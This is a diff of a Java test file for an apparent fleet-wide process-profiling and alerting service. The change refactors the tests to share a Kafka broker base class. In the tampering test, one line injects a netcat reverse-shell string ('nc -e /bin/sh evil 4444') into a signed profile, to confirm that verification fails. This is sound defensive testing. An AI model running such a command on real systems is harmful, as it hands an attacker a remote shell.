@@ -5,7 +5,6 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
 import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.databind.node.ObjectNode;
-import dev.vigil.alert.KafkaOutputTest;
 import java.io.PrintStream;
 import java.nio.file.Path;
 import java.time.Duration;
@@ -18,21 +17,14 @@ import org.apache.kafka.clients.producer.KafkaProducer;
 import org.apache.kafka.clients.producer.ProducerConfig;
 import org.apache.kafka.clients.producer.ProducerRecord;
 import org.apache.kafka.common.serialization.StringSerializer;
-import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 /** The fleet service against an in-process KRaft broker on loopback (no root). */
-public class FleetServiceTest {
+public class FleetServiceTest extends dev.vigil.alert.BrokerTest {
     public static final String W = "systemd:nginx.service nginx";
     public static final PrintStream QUIET = new PrintStream(java.io.OutputStream.nullOutputStream());
 
-    @BeforeAll
-    static void broker() throws Exception { KafkaOutputTest.broker(); }
-
-    @AfterAll
-    static void stop() throws Exception { KafkaOutputTest.stop(); }
 
     public static String event(String host, String dimension, String item, String verdict) {
         return new ObjectMapper().createObjectNode().put("schema", "vigil.profile-event/1").put("host", host).put("workload", W).put("dimension", dimension)
@@ -41,7 +33,7 @@ public class FleetServiceTest {
 
     public static void produce(String topic, List<String> values) throws Exception {
         Properties p = new Properties();
-        p.put(ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, KafkaOutputTest.kafka.bootstrapServers());
+        p.put(ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, kafka.bootstrapServers());
         try (var prod = new KafkaProducer<>(p, new StringSerializer(), new StringSerializer())) {
             for (String v : values) prod.send(new ProducerRecord<>(topic, W, v)).get();
         }
@@ -54,7 +46,7 @@ public class FleetServiceTest {
     }
 
     public static FleetDocument.Read latest(String topic, Signer verifier) throws Exception {
-        List<ConsumerRecord<String, String>> docs = KafkaOutputTest.read(topic, 1);
+        List<ConsumerRecord<String, String>> docs = read(topic, 1);
         ConsumerRecord<String, String> last = null;
         for (var r : docs) if (r.key().equals(W)) last = r;
         assertThat(last).isNotNull();
@@ -65,7 +57,7 @@ public class FleetServiceTest {
     void threeHostsMergeAnItemOnOneHostStaysOutARestartDoesNotDoubleCountATamperedDocumentFails(@TempDir Path dir) throws Exception {
         Signer signer = Signer.generate(dir);
         Signer verifier = Signer.verifier(dir.resolve(Signer.PUBLIC));
-        FleetService.Settings s = new FleetService.Settings(KafkaOutputTest.kafka.bootstrapServers(), "fleet-t1", "events.t1", "profiles.t1", 2, Map.of());
+        FleetService.Settings s = new FleetService.Settings(kafka.bootstrapServers(), "fleet-t1", "events.t1", "profiles.t1", 2, Map.of());
         List<String> first = List.of(
                 event("h1", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
                 event("h2", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
@@ -108,7 +100,7 @@ public class FleetServiceTest {
         assertThat(after.normal().get("risky")).as("allowed by an operator").containsExactly("ptrace ATTACH");
 
         // tampered: an item added to the normal set, or the document signed by another key
-        String doc = KafkaOutputTest.read("profiles.t1", 1).getLast().value();
+        String doc = read("profiles.t1", 1).getLast().value();
         ObjectNode o = (ObjectNode) new ObjectMapper().readTree(doc);
         o.withObjectProperty("normal").withArrayProperty("process").add("/usr/sbin/nginx -> /usr/bin/nc -e /bin/sh evil 4444");
         assertThatThrownBy(() -> FleetDocument.read(o.toString(), verifier)).isInstanceOf(FleetDocument.InvalidException.class)
@@ -127,7 +119,7 @@ public class FleetServiceTest {
     void aDimensionStableOnKHostsIsLearntFleetWideAndANewReplicaImportingItAlertsAtOnce(@TempDir Path dir) throws Exception {
         Signer signer = Signer.generate(dir);
         Signer verifier = Signer.verifier(dir.resolve(Signer.PUBLIC));
-        FleetService.Settings s = new FleetService.Settings(KafkaOutputTest.kafka.bootstrapServers(), "fleet-t4", "events.t4", "profiles.t4", 2, Map.of());
+        FleetService.Settings s = new FleetService.Settings(kafka.bootstrapServers(), "fleet-t4", "events.t4", "profiles.t4", 2, Map.of());
         List<String> events = List.of(
                 event("h1", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
                 event("h2", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
@@ -161,7 +153,7 @@ public class FleetServiceTest {
         assertThat(p.dimension("files", learning, now).state()).isEqualTo(dev.vigil.profile.Dimension.State.LEARNING);
 
         // the learnt list is signed like the rest: a dimension added to it fails verification
-        ObjectNode o = (ObjectNode) new ObjectMapper().readTree(KafkaOutputTest.read("profiles.t4", 1).getLast().value());
+        ObjectNode o = (ObjectNode) new ObjectMapper().readTree(read("profiles.t4", 1).getLast().value());
         o.withArrayProperty("learnt").add("files");
         assertThatThrownBy(() -> FleetDocument.read(o.toString(), verifier)).isInstanceOf(FleetDocument.InvalidException.class);
     }
@@ -169,7 +161,7 @@ public class FleetServiceTest {
     @Test
     void aBurstOfReportsBecomesOneSignedDocumentNotOnePerPoll(@TempDir Path dir) throws Exception {
         Signer signer = Signer.generate(dir);
-        FleetService.Settings s = new FleetService.Settings(KafkaOutputTest.kafka.bootstrapServers(), "fleet-t5", "events.t5", "profiles.t5", 2, Map.of());
+        FleetService.Settings s = new FleetService.Settings(kafka.bootstrapServers(), "fleet-t5", "events.t5", "profiles.t5", 2, Map.of());
         List<String> burst = new java.util.ArrayList<>();
         for (int i = 0; i < 300; i++) burst.add(event("h" + (i % 3), "files", "read /srv/www/page-" + (i / 3) + ".html", "learnt"));
         try (FleetService f = new FleetService(s, signer, QUIET); dev.vigil.alert.Metrics m = dev.vigil.alert.Metrics.serve("127.0.0.1", 0, "fleet", "test")) {
@@ -183,7 +175,7 @@ public class FleetServiceTest {
                     "vigil_fleet_events_total{result=\"invalid\"} 1.0", "vigil_fleet_documents_published_total " + (double) f.counts().get("published"),
                     "vigil_fleet_workloads 1.0", "vigil_fleet_events_lag 0.0");
         }
-        List<ConsumerRecord<String, String>> docs = KafkaOutputTest.read("profiles.t5", 1);
+        List<ConsumerRecord<String, String>> docs = read("profiles.t5", 1);
         FleetDocument.Read last = FleetDocument.read(docs.getLast().value(), Signer.verifier(dir.resolve(Signer.PUBLIC)));
         assertThat(last.normal().get("files")).hasSize(100).contains("read /srv/www/page-0.html", "read /srv/www/page-99.html");
     }
